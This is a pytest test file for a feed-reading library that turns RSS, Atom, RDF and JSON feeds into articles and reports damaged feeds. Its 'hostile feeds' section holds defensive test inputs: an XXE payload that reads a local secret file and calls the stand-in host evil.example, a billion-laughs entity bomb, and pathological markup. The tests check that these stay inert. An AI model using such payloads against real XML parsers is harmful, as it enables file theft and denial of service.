"""Stored feeds: entries with a whole text are articles, and what they say of their source is kept."""

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from filiation.errors import InputError, Unreadable
from filiation.outlets import Catalogue
from filiation.read import articles, documents, read
from filiation.read.feeds import is_feed
from filiation.values import Article
from tests.read.pages import BODY, LAYOUTS, TITLE

TEXT = "".join(f"<p>{paragraph}</p>" for paragraph in BODY)
LONG = " ".join(BODY)
SPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom"'
)


def rss(items: str, head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}<rss version="2.0" {SPACES}><channel>'
        f"<title>Le Courrier du Pont</title><link>https://courrier.example/</link>"
        f"<language>fr</language>{items}</channel></rss>"
    )


RSS_ITEM = f"""<item><title>{TITLE}</title><link>https://courrier.example/a</link>
<guid isPermaLink="false">n-1</guid><dc:creator>Jeanne Roche</dc:creator>
<pubDate>Mon, 21 Nov 2016 10:30:00 +0100</pubDate>
<atom:updated>2016-11-22T08:00:00Z</atom:updated>
<source url="https://lantern.example/feed">The Lantern</source>
<description>A few words of it.</description>
<content:encoded><![CDATA[{TEXT}]]></content:encoded></item>"""
ATOM = f"""<?xml version="1.0"?><!-- a feed --><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
<title>Le Courrier du Pont</title><link href="https://courrier.example/"/>
<link rel="self" href="https://courrier.example/feed"/><entry><title>{TITLE}</title>
<id>n-1</id><link href="https://courrier.example/a"/>
<link rel="via" href="https://wire.example/7" title="Example Wire"/>
<author><name>Jeanne Roche</name></author><published>2016-11-21T10:30:00+01:00</published>
<updated>2016-11-22T08:00:00Z</updated><source><title>The Lantern</title>
<link href="https://lantern.example/"/><id>tag:lantern</id></source>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{TEXT}</div></content>
</entry></feed>"""
RDF = f"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
xmlns="http://purl.org/rss/1.0/" {SPACES}><channel rdf:about="https://courrier.example/">
<title>Le Courrier du Pont</title><link>https://courrier.example/</link></channel>
<item rdf:about="n-1"><title>{TITLE}</title><link>https://courrier.example/a</link>
<dc:creator>Jeanne Roche</dc:creator><dc:date>2016-11-21T10:30:00+01:00</dc:date>
<dc:source>https://lantern.example/x</dc:source>
<content:encoded><![CDATA[{TEXT}]]></content:encoded></item></rdf:RDF>"""
JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Le Courrier du Pont",
        "home_page_url": "https://courrier.example/",
        "items": [
            {"id": "n-1", "url": "https://courrier.example/a", "title": TITLE,
             "content_html": TEXT, "date_published": "2016-11-21T10:30:00+01:00",
             "authors": [{"name": "Jeanne Roche"}], "language": "fr"},
            {"id": 2, "url": "https://courrier.example/b", "content_text": BODY[0]},
            {"id": 3, "url": "https://courrier.example/c", "summary": "A few words."},
            "no item",
        ],
    }
)  # fmt: skip


def found(path: Path, known: Catalogue, content: str | bytes) -> list[Article | InputError]:
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return list(articles([path], catalogue=known))


@pytest.mark.parametrize("name", ["feed.xml", "feed.rss", "feed.atom", "feed", "feed.html"])
@pytest.mark.parametrize("content", [rss(RSS_ITEM), ATOM, RDF], ids=["rss", "atom", "rdf"])
def test_an_entry_with_its_text_is_an_article(
    name: str, content: str, tmp_path: Path, known: Catalogue
) -> None:
    (article,) = found(tmp_path / name, known, content)
    assert isinstance(article, Article)
    assert article.input == f"{tmp_path / name}, entry 1"
    assert (article.title, article.byline) == (TITLE, "Jeanne Roche")
    assert (article.url, article.outlet) == ("https://courrier.example/a", "courrier")
    assert (article.outlet_name, article.language) == ("Le Courrier du Pont", "fr")
    assert article.dates.earliest is not None
    assert article.dates.earliest.isoformat() == "2016-11-21T09:30:00+00:00"
    assert [w.kind for w in article.dates.witnesses] == ["feed"]
    assert all(paragraph in article.text for paragraph in BODY)


def test_what_an_entry_says_of_its_source_is_a_mark(tmp_path: Path, known: Catalogue) -> None:
    from filiation.credits import credits

    def marks(content: str) -> dict[str, tuple[str, str]]:
        (article,) = found(tmp_path / "feed.xml", known, content)
        assert isinstance(article, Article)
        outlets.append({credit.outlet for credit in credits(article, known).credits})
        return {mark.name: (mark.value, mark.label) for mark in article.marks}

    outlets: list[set[str | None]] = []
    updated = ("2016-11-22T08:00:00Z", "")
    lantern = "https://lantern.example/"
    assert marks(rss(RSS_ITEM)) == {
        "meta:syndication-source": (f"{lantern}feed", "The Lantern"),
        "meta:article:modified_time": updated,
    }
    assert marks(ATOM) == {
        "meta:syndication-source": (lantern, "The Lantern"),
        "link:via": ("https://wire.example/7", "Example Wire"),
        "meta:article:modified_time": updated,
    }
    assert marks(RDF)["meta:dc.source"] == (f"{lantern}x", "")
    assert [("lantern" in said, "wire" in said) for said in outlets] == [
        (True, False), (True, True), (True, False),
    ]  # fmt: skip


def test_a_json_feed_is_a_feed_and_no_table(tmp_path: Path, known: Catalogue) -> None:
    first, second, third, last = found(tmp_path / "feed.json", known, JSON)
    assert isinstance(first, Article) and isinstance(second, Article)
    assert (first.id, first.byline, first.outlet) == ("n-1", "Jeanne Roche", "courrier")
    assert second.text == BODY[0] and second.outlet == "courrier"
    assert isinstance(third, Unreadable) and isinstance(last, Unreadable)
    assert (third.number, last.number) == (3, 4)


def test_a_summary_counts_where_it_is_a_text(tmp_path: Path, known: Catalogue) -> None:
    items = (
        "<item><title>short</title><description>Some sixty words at most. Read more</description>"
        f"</item><item><title>long</title><description>{LONG}</description></item>"
        f"<item><title>both</title><description>{LONG}</description>"
        "<content:encoded>Little.</content:encoded></item>"
    )
    short, long, both = found(tmp_path / "feed.xml", known, rss(items))
    assert isinstance(short, Unreadable) and "entry 1" in str(short) and "whole text" in str(short)
    assert isinstance(long, Article) and isinstance(both, Article)
    assert BODY[0] in long.text and BODY[0] in both.text


def test_the_entries_of_other_sites_are_not_the_feeds_own(tmp_path: Path, known: Catalogue) -> None:
    item = RSS_ITEM.replace("courrier.example/a", "lantern.example/a")
    (article,) = found(tmp_path / "planet.xml", known, rss(item))
    assert isinstance(article, Article)
    assert (article.outlet, article.outlet_name) == ("lantern", "The Lantern")


def test_a_feed_of_one_article_is_read_and_of_more_is_not(tmp_path: Path, known: Catalogue) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(rss(RSS_ITEM))
    assert read(path, catalogue=known).title == TITLE
    path.write_text(rss(RSS_ITEM * 2))
    with pytest.raises(Unreadable, match="several"):
        read(path, catalogue=known)


def test_entries_are_passed_over_when_they_were_read_before(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(rss(RSS_ITEM + "<item><title>x</title></item>" + RSS_ITEM))
    for done in range(4):
        rest = documents([path], done=lambda _source, done=done: done)  # type: ignore[misc]
        assert [one.number for one in rest] == list(range(done + 1, 4))


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (rss("").encode(), True),
        (rss("").encode("utf-16"), True),
        (ATOM.encode(), True),
        (RDF.encode(), True),
        (JSON.encode(), True),
        (b'<!DOCTYPE rss [<!ENTITY a "b">]><rss version="0.91">', True),
        (b"<html><rss>", False),
        (LAYOUTS["credits in a footer with line breaks"].encode(), False),
        (b'<?xml version="1.0"?><feed><entry/></feed>', False),
        (b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">', False),
        (b'<rssfeeds version="2.0">', False),
        (b"How to write <rss> by hand", False),
        (b'{"version": 1, "items": []}', False),
        (b"<!--" * 20_000, False),
        (b"<?" * 20_000, False),
        (b"", False),
    ],
)
def test_feeds_are_told_by_their_content(head: bytes, expected: bool) -> None:
    assert is_feed(head) is expected


# --- hostile feeds -------------------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Any attempt to reach an address fails, and is remembered."""
    reached: list[object] = []

    def refused(*address: object, **_: object) -> None:
        reached.append(address)
        raise OSError("no network in tests")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "create_connection", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    yield reached
    assert reached == []


@pytest.mark.usefixtures("no_network")
def test_external_entities_are_inert(tmp_path: Path, known: Catalogue) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret of the house")
    head = (
        f'<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY file SYSTEM "{secret.as_uri()}">'
        '<!ENTITY net SYSTEM "http://evil.example/x"><!ENTITY % more SYSTEM "http://evil.example/y">'
        "%more;]>"
    )
    item = f"<item><title>&file;</title><description>&file; &net; {LONG}</description></item>"
    for one in found(tmp_path / "feed.xml", known, rss(item, head)):
        assert "secret of the house" not in str(one) + repr(one)


@pytest.mark.usefixtures("no_network")
def test_entity_bombs_are_inert(tmp_path: Path, known: Catalogue) -> None:
    bomb = '<!ENTITY e0 "bombast">' + "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)
    )
    item = f"<item><title>&e9;</title><description>&e9; {LONG}</description></item>"
    started = time.process_time()
    outcomes = found(tmp_path / "feed.xml", known, rss(item, f"<!DOCTYPE rss [{bomb}]>"))
    assert time.process_time() - started < 10
    assert outcomes and all(len(repr(one)) < 100_000 for one in outcomes)


def test_a_feed_never_names_a_file_or_an_address(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, known: Catalogue
) -> None:
    """What feedparser gets is a stream: bytes alone it would try to open as a file's name."""
    import feedparser

    given: list[object] = []
    parse = feedparser.parse

    def watched(content: object, **options: object) -> object:
        given.append(content)
        return parse(content, **options)

    monkeypatch.setattr(feedparser, "parse", watched)
    found(tmp_path / "feed.xml", known, rss(RSS_ITEM))
    assert len(given) == 1 and hasattr(given[0], "read")


@pytest.mark.parametrize(
    ("content", "articles_read", "says"),
    [
        (rss(""), 0, "no entry"),
        (rss(RSS_ITEM)[:-12], 1, "breaks off after its entry 1"),
        (rss(RSS_ITEM * 3)[: -len(RSS_ITEM) - 600], 1, "entry 2: the feed breaks off"),
        (rss(RSS_ITEM + f"<item><description>{LONG}")[: -30], 1, "entry 2: the feed breaks off within"),
        (rss("<item><title>x</title></item>"), 0, "whole text"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 3}', 0, "no items"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [', 0, "no JSON"),
        (rss("<item><content:encoded>  </content:encoded></item>"), 0, "whole text"),
        (rss("<item><content:encoded>&lt;script&gt;x&lt;/script&gt;</content:encoded></item>"), 0, "shows no text"),
    ],
    ids=["empty", "cut at the end", "cut within", "cut in a summary", "title only", "no list", "no json", "blank", "script"],
)  # fmt: skip
def test_damaged_feeds_say_what_is_wrong(
    content: str, articles_read: int, says: str, tmp_path: Path, known: Catalogue
) -> None:
    outcomes = found(tmp_path / "feed.xml", known, content)
    assert sum(isinstance(one, Article) for one in outcomes) == articles_read
    assert any(isinstance(one, InputError) and says in str(one) for one in outcomes)


def test_broken_xml_is_read_leniently_and_said(tmp_path: Path, known: Catalogue) -> None:
    item = RSS_ITEM.replace("<dc:creator>", "<note>R & D&nbsp;<b></note><dc:creator>")
    (article,) = found(tmp_path / "feed.xml", known, rss(item))
    assert isinstance(article, Article) and BODY[0] in article.text
    assert any("broken XML" in note for note in article.notes)


@pytest.mark.parametrize(
    "content",
    ["<item>" * 50_000, "<a>" * 50_000, "<item><title>" + "<" * 100_000, "&" * 100_000,
     "<item><title><![CDATA[" * 20_000, "<item " + "a='b' " * 50_000 + ">"],
    ids=["items", "deep", "angles", "ampersands", "cdata", "attributes"],
)  # fmt: skip
def test_hostile_feeds_cost_no_more_than_their_length(
    content: str, tmp_path: Path, known: Catalogue
) -> None:
    started = time.process_time()
    outcomes = found(tmp_path / "feed.xml", known, f'<rss version="2.0"><channel>{content}')
    assert time.process_time() - started < 20
    assert any(isinstance(one, InputError) for one in outcomes)


@settings(max_examples=60)
@given(
    st.sampled_from([rss(RSS_ITEM * 2), ATOM, RDF, JSON]),
    st.integers(0, 5000), st.binary(max_size=8), st.integers(0, 400),
)  # fmt: skip
def test_any_damage_gives_articles_or_errors(
    tmp_path_factory: pytest.TempPathFactory, content: str, at: int, damage: bytes, lost: int
) -> None:
    whole = content.encode()
    path = tmp_path_factory.mktemp("f") / "feed.xml"
    for one in found(path, Catalogue([]), whole[:at] + damage + whole[at + lost :]):
        assert isinstance(one, Article) or "\n" not in str(one)
